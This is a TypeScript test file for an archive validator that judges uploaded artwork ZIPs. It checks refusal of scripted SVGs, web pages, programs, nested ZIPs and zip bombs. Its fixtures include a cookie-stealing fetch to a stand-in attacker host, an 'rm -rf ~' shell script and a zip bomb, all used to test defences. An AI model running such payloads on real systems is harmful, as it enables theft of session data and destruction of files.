import { zipSync, type Zippable } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadPdfReader } from './pdf-active';
import { ARCHIVE_LIMITS, ArchiveJudge, archiveProblemText } from './archive';
import { activePdf } from '@tests/support/pdf-cases';

// The judges read with pdf-lib and fflate, which the worker loads before the first file it reads.
beforeAll(() => loadPdfReader());

/** Archives are opened and what they hold judged as if sent alone (decision 065). */

const enc = (text: string) => new TextEncoder().encode(text);
const scripted = enc('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="1" height="1"/></svg>');
const plainSvg = enc('<svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10" fill="#c00"/></svg>');
const html = enc('<!DOCTYPE html><html><body><script>fetch("//evil.example/"+document.cookie)</script></body></html>');
const png = new Uint8Array([
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xde,
]);
const riffCdr = new Uint8Array([...enc('RIFF'), 4, 0, 0, 0, ...enc('CDRvvers'), 0, 0, 0, 0]);

async function judged(zip: Uint8Array, piece = 4096) {
  const judge = new ArchiveJudge();
  let problem = null;
  for (let at = 0; at < zip.length && !problem; at += piece) problem = await judge.push(zip.subarray(at, at + piece));
  problem ??= await judge.end();
  return { problem: problem ? archiveProblemText('artwork.zip', problem, 'en') : null, judge };
}

describe('the archive judge', () => {
  it('refuses a scripted SVG zipped, naming it and the reason it would be refused alone, however it is packed', async () => {
    for (const level of [0, 6, 9] as const) {
      for (const name of ['logo.svg', 'art/logo.svg', 'logo.png', 'README']) {
        const { problem } = await judged(zipSync({ [name]: scripted, 'plain.svg': plainSvg }, { level }));
        expect([level, name, problem]).toEqual([
          level,
          name,
          expect.stringMatching(new RegExp(`^“artwork\\.zip › ${name.replace('.', '\\.')}” is an SVG with a script`)),
        ]);
      }
    }
  });

  it('refuses a web page or program inside, by its name or its first bytes: HTML with a script zipped as design.cdr', async () => {
    const cases: Zippable[] = [
      { 'index.html': html },
      { 'notes.txt': html },
      { 'content/riffData.cdr': riffCdr, 'content/page.xml': html },
      { 'setup.png': new Uint8Array([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]) },
      { 'run.js': enc('alert(1)') },
      { 'a.bin': enc('#!/bin/sh\nrm -rf ~\n') },
      { 'x.xml': enc('<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>') },
    ];
    for (const files of cases) {
      const { problem } = await judged(zipSync(files));
      expect([Object.keys(files), problem]).toEqual([Object.keys(files), expect.stringMatching(/a web page or program, which printing never needs/)]);
    }
  });

  it('lets other work run while it judges: what a small archive unpacks is judged a turn of the event loop at a time', async () => {
    // 200 drawings of about 56 KB each pack to a few KB each: 11 MB to judge from a small archive.
    const drawing = enc(`<svg xmlns="http://www.w3.org/2000/svg">${'<rect x="1" y="2" width="30" height="40" fill="#c00"/>'.repeat(1050)}</svg>`);
    const files: Zippable = {};
    for (let i = 0; i < 200; i++) files[`art/${i}.svg`] = drawing;
    const zip = zipSync(files, { level: 9 });
    let finished = false;
    let otherRanFirst = false;
    setTimeout(() => (otherRanFirst = !finished), 0);
    const { problem, judge } = await judged(zip);
    finished = true;
    expect([problem, judge.judged]).toEqual([null, 200]);
    expect(otherRanFirst).toBe(true);
  });

  it('opens a ZIP inside a ZIP once, and refuses one more level', async () => {
    const inner = zipSync({ 'logo.svg': scripted });
    expect((await judged(zipSync({ 'design.cdr': inner }))).problem).toMatch(/^“artwork\.zip › design\.cdr › logo\.svg” is an SVG with a script/);
    expect((await judged(zipSync({ 'a.zip': zipSync({ 'b.zip': zipSync({ 'c.png': png }) }) }))).problem).toMatch(/a ZIP inside a ZIP inside it/);
  });

  it('refuses what cannot be read within its limits: too many files, a file larger than we take, one larger than it declares, damage, other methods', async () => {
    const many: Zippable = {};
    for (let i = 0; i <= ARCHIVE_LIMITS.entries; i++) many[`f${i}.txt`] = enc('x');
    expect((await judged(zipSync(many))).problem).toMatch(/more than 1000 files in it/);
    // About 1 MB that unpacks to 256 MB: refused by the size it declares, before it is inflated.
    const bomb = zipSync({ 'zeros.png': new Uint8Array(256 * 1000 * 1000) }, { level: 9 });
    const { problem, judge } = await judged(bomb, 64 * 1024);
    expect(problem).toMatch(/a file in it is larger than 200 MB unpacked/);
    expect(judge.unpacked).toBe(0);
    // The same declaring 1 KB: inflating stops past what it declared.
    const lying = bomb.slice();
    const local = new DataView(lying.buffer);
    local.setUint32(22, 1024, true);
    const lied = await judged(lying, 64 * 1024);
    expect(lied.problem).toMatch(/damaged, or a file in it is not what it declares/);
    expect(lied.judge.unpacked).toBeLessThan(4 * 1024 * 1024);
    const cut = zipSync({ 'a.svg': plainSvg, 'b.svg': plainSvg });
    expect((await judged(cut.subarray(0, 60))).problem).toMatch(/damaged/);
    // Packed with another method (12: bzip2; 99: AES encryption): refused, never guessed at.
    for (const method of [12, 99]) {
      const other = zipSync({ 'a.svg': plainSvg });
      other[8] = method;
      expect((await judged(other)).problem).toMatch(/encrypted or packed otherwise than with Deflate/);
    }
  });

  it('takes artwork zipped with fonts and text, judging the PDFs in it and counting what it did not open', async () => {
    const pdf = await activePdf('none', true);
    const { problem, judge } = await judged(
      zipSync({ 'front.pdf': pdf, 'logo.svg': plainSvg, 'photo.png': png, 'fonts/Brand.otf': enc('OTTO\0\0\0\0'), 'read me.txt': enc('Pantone 485 C') }),
    );
    expect(problem).toBeNull();
    expect(judge.judged).toBe(3);
    expect(judge.notes.map((n) => n.text.en)).toEqual([
      "This ZIP also holds 2 files of kinds we do not check (fonts, text, a design program's own parts); they were not opened.",
    ]);
    // A CorelDRAW X4+ file is a ZIP of its own parts: taken.
    const cdr = zipSync({ 'content/riffData.cdr': riffCdr, 'META-INF/metadata.xml': enc('<?xml version="1.0"?><metadata/>'), 'previews/thumbnail.png': png });
    expect((await judged(cdr)).problem).toBeNull();
    // A PDF that acts, zipped: taken, its warning for the staff.
    const acting = await judged(zipSync({ 'label.pdf': await activePdf('open-javascript', true) }));
    expect(acting.problem).toBeNull();
    expect(acting.judge.notes.map((n) => n.level)).toEqual(['warning']);
  });
});
